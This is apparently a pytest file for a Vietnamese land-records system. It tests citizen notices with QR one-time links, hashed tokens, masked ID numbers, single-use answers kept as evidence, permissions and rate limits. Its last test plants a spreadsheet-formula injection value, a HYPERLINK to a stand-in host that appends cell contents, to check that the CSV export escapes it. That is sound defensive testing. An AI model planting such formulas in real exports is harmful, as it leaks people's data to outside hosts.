"""Citizens confirm their records (issue 20, part 3): a printable notice per land user
with a one-time link, the public confirmation page, the answer kept as evidence and
handled by the commune."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import html
import io
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pypdfium2
import pytest
import segno
import zxingcpp
from hypothesis import given
from hypothesis import strategies as st

from landclean import api
from landclean.errors import LandcleanError
from landclean.evidence import store
from landclean.evidence.add import Reading
from landclean.evidence.answers import record_answer
from landclean.evidence.certificate_text import CertificateText
from landclean.evidence.notices import addressee, number_text
from landclean.vn.cccd_qr import parse_payload, payload_text
from tests.test_cli import landclean
from tests.web import Served, serve_copy

# one worker builds this module's fixtures once
pytestmark = pytest.mark.xdist_group("notices")

URL = "https://dat.example.gov.vn/dl"
TWELVE_DIGITS = re.compile(r"(?<!\d)\d{12}(?!\d)")


@dataclass
class Noticed:
    served: Served
    folder: Path
    commune: str
    links: dict[str, str]  # notice_id -> the link its QR code carries (a few)


def _pdf(path: Path) -> tuple[int, str, list[str]]:
    """Pages, text and the QR codes read on the first page (rendered at 200 dpi)."""
    doc = pypdfium2.PdfDocument(str(path))
    try:
        page = doc[0]
        text = page.get_textpage().get_text_range()
        image = page.render(scale=200 / 72).to_pil()
        return len(doc), text, [r.text for r in zxingcpp.read_barcodes(image)]
    finally:
        doc.close()


@pytest.fixture(scope="session")  # made once per worker, kept to the end
def noticed(built_workspace: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Noticed]:
    folder = tmp_path_factory.mktemp("notices")
    path = folder / "ws.duckdb"
    path.write_bytes(built_workspace.read_bytes())
    with api.open_workspace(path) as ws:
        commune = str(
            ws.scalar(
                "SELECT unit_code FROM parcel WHERE unit_code IS NOT NULL "
                "GROUP BY 1 ORDER BY count(*) DESC, 1 LIMIT 1"
            )
        )
        api.issue_notices(ws, commune, folder / "out", by="cán bộ địa chính", url=URL + "/")
        rows = ws.con.execute("SELECT notice_id FROM citizen_notice ORDER BY 1 LIMIT 6")
        ids = [r[0] for r in rows.fetchall()]
    links = {}
    for notice_id in ids:
        _, _, codes = _pdf(folder / "out" / f"{notice_id}.pdf")
        assert len(codes) == 1, notice_id
        links[notice_id] = codes[0]
    (folder / "served").mkdir()
    served = serve_copy(path, folder / "served")  # (serve_copy copies it again)
    yield Noticed(served, folder / "out", commune, links)
    served.server.close()


def _party(noticed: Noticed, notice_id: str) -> dict[str, object]:
    with noticed.served.server.view() as ws:
        cur = ws.con.execute(
            "SELECT p.* FROM citizen_notice n JOIN party p USING (party_id) WHERE n.notice_id = ?",
            [notice_id],
        )
        names = [d[0] for d in cur.description]
        return dict(zip(names, cur.fetchone(), strict=True))


def _path(link: str) -> str:
    assert link.startswith(URL + "/confirm/"), link
    return link.removeprefix(URL)


def test_every_land_user_of_the_commune_gets_one_page_with_their_records(noticed: Noticed) -> None:
    with noticed.served.server.view() as ws:
        users = {r[0] for r in ws.con.execute(
            "SELECT party_id FROM party_commune WHERE unit_code = ?", [noticed.commune]
        ).fetchall()}  # fmt: skip
        notices = dict(ws.con.execute(
            "SELECT notice_id, party_id FROM citizen_notice").fetchall())  # fmt: skip
    assert len(users) > 50
    assert sorted(notices.values()) == sorted(users)  # one each, and nobody else
    assert sorted(p.name for p in noticed.folder.glob("*.pdf")) == sorted(
        f"{n}.pdf" for n in notices
    )
    assert not list(noticed.folder.glob(".*"))  # nothing half-written left
    for notice_id in list(noticed.links)[:4]:
        pages, text, _ = _pdf(noticed.folder / f"{notice_id}.pdf")
        party = _party(noticed, notice_id)
        assert pages == 1
        assert str(party["full_name"]) in text
        if party["id_number"]:
            assert str(party["id_number"]) in text  # on paper in clear: they check it
        with noticed.served.server.view() as ws:
            held = ws.con.execute(
                "SELECT p.sheet_no, p.parcel_no FROM land_right r JOIN parcel p USING (parcel_id) "
                "WHERE r.party_id = ?",
                [party["party_id"]],
            ).fetchall()
        assert held
        for sheet, parcel in held[:16]:
            assert f"{sheet}/{parcel}" in text
    # the list for whoever hands them out: one row per notice
    (listing,) = noticed.folder.glob("notices-*.csv")
    with open(listing, encoding="utf-8-sig") as f:
        rows = list(csv.DictReader(f))
    assert sorted(r["Mã thông báo"] for r in rows) == sorted(notices)


def test_only_a_hash_of_each_secret_is_kept(noticed: Noticed) -> None:
    notice_id, link = next(iter(noticed.links.items()))
    token = link.rsplit("/", 1)[1]
    assert len(token) >= 24
    with noticed.served.server.view() as ws:
        kept = ws.con.execute(
            "SELECT token_hash FROM citizen_notice WHERE notice_id = ?", [notice_id]
        ).fetchone()
        anywhere = ws.con.execute(
            "SELECT count(*) FROM citizen_notice WHERE contains(token_hash, ?) "
            "OR contains(notice_id, ?)",
            [token, token],
        ).fetchone()
    assert kept == (hashlib.sha256(token.encode()).hexdigest(),)
    assert anywhere == (0,)
    assert len(set(noticed.links.values())) == len(noticed.links)


def test_the_link_shows_that_person_only_with_the_id_masked(noticed: Noticed) -> None:
    notice_id, link = next(iter(noticed.links.items()))
    party = _party(noticed, notice_id)
    other = _party(noticed, list(noticed.links)[1])
    page = noticed.served.client().get(_path(link))  # no login
    assert page.status_code == 200, page.text
    text = html.unescape(page.text)
    assert str(party["full_name"]) in text
    assert str(other["full_name"]) not in text or other["full_name"] == party["full_name"]
    assert not TWELVE_DIGITS.search(text)
    if party["id_number"]:
        number = str(party["id_number"])
        assert f"{number[:3]}{'*' * (len(number) - 5)}{number[-2:]}" in text


def _card_png(noticed: Noticed, notice_id: str) -> bytes | None:
    """A photo (a clean PNG) of the land user's ID card QR, from the registry's person
    with their number, name and birth date; None when the registry has none such."""
    party = _party(noticed, notice_id)
    with noticed.served.server.view() as ws:
        row = ws.con.execute(
            "SELECT cccd, cmnd, full_name, birth_date FROM registry_person WHERE cccd = ? "
            "AND full_name = ? AND birth_date = ?",
            [party["id_number"], party["full_name"], party["birth_date"]],
        ).fetchone()
    if row is None:
        return None
    cccd, cmnd, name, birth = row
    text = payload_text(cccd, cmnd, name, birth, int(cccd[3]) % 2 == 1, "Xã", dt.date(2022, 3, 4))
    image = io.BytesIO()
    segno.make(text, error="m").save(image, kind="png", scale=6, border=4)
    return image.getvalue()


def _with_card(noticed: Noticed) -> tuple[str, bytes]:
    for notice_id in list(noticed.links)[2:]:
        png = _card_png(noticed, notice_id)
        if png is not None:
            return notice_id, png
    raise AssertionError("no land user among the sampled notices has a registry card")


def test_an_answer_is_kept_as_evidence_once_and_becomes_the_communes_task(
    noticed: Noticed,
) -> None:
    served = noticed.served
    notice_id, png = _with_card(noticed)
    path = _path(noticed.links[notice_id])
    party = _party(noticed, notice_id)
    client = served.client()
    # saying it is wrong without saying what: refused, the link still works
    refused = client.post(path, data={"answer": "wrong", "message": "  "})
    assert refused.status_code == 422 and "ghi rõ" in refused.text
    # a PDF is no photo
    pdf = ("a.pdf", b"%PDF-1.4\n%%EOF", "application/pdf")
    bad = client.post(path, data={"answer": "wrong", "message": "x"}, files={"photo": pdf})
    assert bad.status_code == 422
    message = "Ngày sinh của tôi là 01/02/1970, không phải như trên."
    answer = client.post(
        path, data={"answer": "wrong", "message": message},
        files={"photo": ("cccd.png", png, "image/png")},
    )  # fmt: skip
    assert answer.status_code == 200, answer.text
    assert notice_id in answer.text
    # single use: the link opens nothing more, and a second answer is refused
    assert client.get(path).status_code == 410
    again = client.post(path, data={"answer": "confirmed"})
    assert again.status_code == 410
    with served.server.view() as ws:
        kept = ws.con.execute(
            "SELECT answer, message, sha256, photo_sha256, unit_code FROM citizen_answer"
        ).fetchall()
        links = ws.con.execute(
            "SELECT DISTINCT party_id FROM evidence_link WHERE sha256 = ?",
            [hashlib.sha256(png).hexdigest()],
        ).fetchall()
        arrival = ws.con.execute(
            "SELECT DISTINCT via, added_by FROM evidence_arrival WHERE sha256 = ?", [kept[0][2]]
        ).fetchall()
    assert [(a, m, p) for a, m, _, p, _ in kept] == [
        ("wrong", message, hashlib.sha256(png).hexdigest())
    ]
    assert links == [(party["party_id"],)]  # the card, linked to this land user alone
    assert arrival == [("confirmation", f"citizen:{notice_id}")]
    document = json.loads(store.read(served.path, kept[0][2]))
    assert document["message"] == message and document["notice_id"] == notice_id
    assert document["shown"]["full_name"] == party["full_name"]  # what they were shown
    # the re-check brings the commune's task up to date
    served.wait_for_jobs()
    commune = kept[0][4]
    with served.server.view() as ws:
        task = ws.con.execute(
            "SELECT status, quantity FROM task WHERE task_id = ?", [f"answers:{commune}"]
        ).fetchone()
    assert task == ("open", 1)
    # the commune sees it and marks it handled; another commune cannot
    other, other_csrf = served.login("xa2")
    assert other.get(f"/communes/{commune}/answers").status_code == 403
    refused = other.post(
        f"/communes/{commune}/answers/{notice_id}", data={"csrf": other_csrf, "note": "x"}
    )
    assert refused.status_code == 403
    leader, _ = served.login("lanhdao")
    assert leader.get(f"/communes/{commune}/answers").status_code == 403
    xa, csrf = served.login("xa")
    listed = xa.get(f"/communes/{commune}/answers")
    assert listed.status_code == 200 and message in html.unescape(listed.text)
    document_page = xa.get(f"/records/party/{party['party_id']}/evidence/{kept[0][2]}")
    assert document_page.status_code == 200 and json.loads(document_page.content) == document
    record = xa.get(f"/records/party/{party['party_id']}")  # the land user's page lists it
    assert record.status_code == 200 and f"{notice_id}.json" in record.text
    assert "Người dân báo có sai" in record.text
    done = xa.post(
        f"/communes/{commune}/answers/{notice_id}",
        data={"csrf": csrf, "note": "Đã sửa ngày sinh theo CCCD"},
    )
    assert done.status_code == 200, done.text
    twice = xa.post(f"/communes/{commune}/answers/{notice_id}", data={"csrf": csrf})
    assert twice.status_code == 422
    served.wait_for_jobs()
    with served.server.view() as ws:
        task = ws.con.execute(
            "SELECT status, quantity FROM task WHERE task_id = ?", [f"answers:{commune}"]
        ).fetchone()
        handled = ws.con.execute(
            "SELECT handled_by, handled_note FROM citizen_answer WHERE notice_id = ?", [notice_id]
        ).fetchone()
        journal = ws.con.execute(
            "SELECT actor, column_name FROM change_log WHERE stage = 'evidence' "
            "AND record_id = ? AND column_name LIKE 'citizen_answer%' ORDER BY changed_at",
            [party["party_id"]],
        ).fetchall()
    assert task == ("done", 0)
    assert handled == ("xa", "Đã sửa ngày sinh theo CCCD")
    assert journal == [
        (f"citizen:{notice_id}", "citizen_answer"),
        ("xa", "citizen_answer_handled"),
    ]


def test_expired_and_unknown_links_open_nothing(noticed: Noticed) -> None:
    served = noticed.served
    notice_id, link = list(noticed.links.items())[1]

    def expire(ws: object) -> None:
        ws.con.execute(  # type: ignore[attr-defined]
            "UPDATE citizen_notice SET expires_at = now()::TIMESTAMP - INTERVAL 1 MINUTE "
            "WHERE notice_id = ?",
            [notice_id],
        )

    served.server.write(expire)
    client = served.client()
    closed = client.get(_path(link))
    assert closed.status_code == 410 and "hết hạn" in closed.text
    assert client.post(_path(link), data={"answer": "confirmed"}).status_code == 410
    wrong = client.get("/confirm/" + "A" * 24)
    assert wrong.status_code == 404


def test_a_newer_notice_replaces_the_earlier_one(built_workspace: Path, tmp_path: Path) -> None:
    path = tmp_path / "ws.duckdb"
    path.write_bytes(built_workspace.read_bytes())
    with api.open_workspace(path) as ws:
        smallest = "SELECT unit_code FROM party_commune GROUP BY 1 ORDER BY count(*), 1 LIMIT 1"
        commune = str(ws.scalar(smallest))
        first = api.issue_notices(ws, commune, tmp_path / "a", by="t", url=URL)
        again = api.issue_notices(ws, commune, tmp_path / "b", by="t", url=URL)
        missing = api.issue_notices(ws, commune, tmp_path / "c", by="t", url=URL, missing_only=True)
        states = ws.con.execute(
            "SELECT count(*) FILTER (WHERE replaced_at IS NULL), count(*) FROM citizen_notice"
        ).fetchone()
        with pytest.raises(LandcleanError, match="not a valid period"):
            api.issue_notices(ws, commune, tmp_path / "d", by="t", url=URL, valid_days=0)
        with pytest.raises(LandcleanError, match="cannot go on the notices"):
            api.issue_notices(ws, commune, tmp_path / "d", by="t", url="ftp://x")
        with pytest.raises(LandcleanError, match="no such commune"):
            api.issue_notices(ws, "99999", tmp_path / "d", by="t", url=URL)
    assert first.notices == again.notices > 0
    assert again.replaced == first.notices
    assert missing.notices == 0  # everyone holds a live notice
    assert states == (first.notices, 2 * first.notices)
    assert not (tmp_path / "d").exists() or not list((tmp_path / "d").iterdir())


def test_rate_limit_on_links_that_open_nothing(noticed: Noticed) -> None:
    served = noticed.served
    client = served.client()  # (the test client's address is its own: "testclient")
    codes = [client.get(f"/confirm/{'B' * 23}{i}").status_code for i in range(12)]
    assert codes[:10] == [404] * 10
    assert codes[10:] == [429, 429]
    _, link = next(iter(noticed.links.items()))
    assert client.get(_path(link)).status_code == 429  # even a good link, for a while


@given(st.floats(min_value=0, max_value=1e9, allow_nan=False))
def test_areas_print_as_vietnamese_numbers(value: float) -> None:
    text = number_text(value)
    back = float(text.replace(".", "").replace(",", "."))
    assert abs(back - round(value, 1)) < 1e-6
    whole = text.split(",")[0]
    assert all(len(group) == 3 for group in whole.split(".")[1:])


def test_the_greeting_follows_the_land_user() -> None:
    assert addressee("individual", "Nguyễn Văn An", "M") == "Ông Nguyễn Văn An"
    assert addressee("individual", "Lê Thị Hoa", "F") == "Bà Lê Thị Hoa"
    assert addressee("household", "Trần Văn Tư", "M") == "Hộ ông Trần Văn Tư"
    assert addressee("organization", "Công ty TNHH Cà phê Buôn Ma Thuột", None) == (
        "Công ty TNHH Cà phê Buôn Ma Thuột"
    )


def test_the_command_reprints_one_notice_and_says_where_links_lead(
    built_workspace: Path, tmp_path: Path
) -> None:
    path = tmp_path / "ws.duckdb"
    path.write_bytes(built_workspace.read_bytes())
    with api.open_workspace(path) as ws:
        party, commune = ws.con.execute(
            "SELECT party_id, unit_code FROM party_commune ORDER BY 2, 1 LIMIT 1"
        ).fetchone()
    written = landclean("notices", str(path), "--commune", commune, "--out", str(tmp_path / "o"),
                        "--land-user", party)  # fmt: skip
    assert written.returncode == 0, written.stderr
    assert "1 thông báo" in written.stdout and "127.0.0.1" in written.stdout  # it warns
    (pdf,) = (tmp_path / "o").glob("*.pdf")
    _, _, codes = _pdf(pdf)
    assert codes[0].startswith("http://127.0.0.1:8000/confirm/")
    bad = landclean("--lang", "en", "notices", str(path), "--commune", commune, "--out",
                    str(tmp_path / "p"), "--url", "dat.daklak.gov.vn")  # fmt: skip
    assert bad.returncode != 0 and "Traceback" not in bad.stderr
    assert "cannot go on the notices" in bad.stderr
    with api.open_workspace(path) as ws:
        assert ws.scalar("SELECT count(*) FROM citizen_notice") == 1


def test_a_big_answer_is_refused_before_it_is_read(noticed: Noticed) -> None:
    _, link = list(noticed.links.items())[3]
    client = noticed.served.client()
    huge = b"\xff\xd8\xff" + b"0" * (11 << 20)  # a "JPEG" of 11 MB
    refused = client.post(_path(link), data={"answer": "wrong", "message": "x"},
                          files={"photo": ("a.jpg", huge, "image/jpeg")})  # fmt: skip
    assert refused.status_code == 413
    # an answer that says nothing valid reads no photo and keeps nothing
    png = io.BytesIO()
    segno.make("không phải thẻ", error="m").save(png, kind="png", scale=4)
    bad = client.post(_path(link), data={"answer": "có lẽ"},
                      files={"photo": ("a.png", png.getvalue(), "image/png")})  # fmt: skip
    assert bad.status_code == 422 and "không hợp lệ" in bad.text
    assert not store.stored_path(
        noticed.served.path, hashlib.sha256(png.getvalue()).hexdigest()
    ).exists()
    assert client.get(_path(link)).status_code == 200  # still open


def test_a_citizens_photo_proves_nothing_of_certificates_or_of_others(
    built_workspace: Path, tmp_path: Path
) -> None:
    path = tmp_path / "ws.duckdb"
    path.write_bytes(built_workspace.read_bytes())
    with api.open_workspace(path) as ws:
        (party, commune), (other, cccd, cmnd, name, birth) = (
            ws.con.execute(
                "SELECT party_id, unit_code FROM party_commune ORDER BY 2, 1"
            ).fetchone(),
            ws.con.execute(
                "SELECT p.party_id, r.cccd, r.cmnd, r.full_name, r.birth_date FROM party p "
                "JOIN registry_person r ON r.cccd = p.id_number AND r.full_name = p.full_name "
                "AND r.birth_date = p.birth_date ORDER BY 1 DESC LIMIT 1"
            ).fetchone(),
        )
        assert other != party
        serial, sheet, parcel = ws.con.execute(
            "SELECT c.serial, p.sheet_no, p.parcel_no FROM certificate c JOIN certificate_parcel "
            "USING (certificate_id) JOIN parcel p USING (parcel_id) WHERE c.serial IS NOT NULL "
            "ORDER BY 1 LIMIT 1"
        ).fetchone()
        issued = api.issue_notices(ws, commune, tmp_path / "o", by="t", url=URL, only=[party])
        token = next(iter(issued.links.values())).rsplit("/", 1)[1]
        # someone else's card, and a certificate's page read (as if OCR had run)
        payload = payload_text(
            cccd, cmnd, name, birth, int(cccd[3]) % 2 == 1, "", dt.date(2022, 1, 1)
        )
        card = parse_payload(payload)
        assert card is not None
        data = b"photo of another"
        text = CertificateText(serial, 99.0, False, False, str(sheet), str(parcel), None)
        photo = Reading("photo", data, store.digest(data), "image/png", 2, [(1, card)],
                        [(2, text, serial)])  # fmt: skip
        answered = record_answer(ws, token, "wrong", "thẻ của tôi", photo)
        links = ws.con.execute("SELECT party_id FROM evidence_link").fetchall()
        scans = ws.con.execute("SELECT count(*) FROM evidence_certificate").fetchone()
    assert answered.photo is not None and answered.photo.linked == []
    assert links == [] and scans == (0,)


def test_the_list_of_notices_holds_no_formula(built_workspace: Path, tmp_path: Path) -> None:
    path = tmp_path / "ws.duckdb"
    path.write_bytes(built_workspace.read_bytes())
    with api.open_workspace(path) as ws:
        party, commune = ws.con.execute(
            "SELECT party_id, unit_code FROM party_commune ORDER BY 2, 1 LIMIT 1"
        ).fetchone()
        hostile = '=HYPERLINK("http://x.example/?"&A1,"Bấm")'
        ws.con.execute("UPDATE party SET address = ? WHERE party_id = ?", [hostile, party])
        issued = api.issue_notices(ws, commune, tmp_path / "o", by="t", url=URL, only=[party])
    assert issued.listing is not None
    with open(issued.listing, encoding="utf-8-sig") as f:
        (row,) = list(csv.DictReader(f))
    assert row["Địa chỉ"] == "'" + hostile  # text, never a formula, in Excel
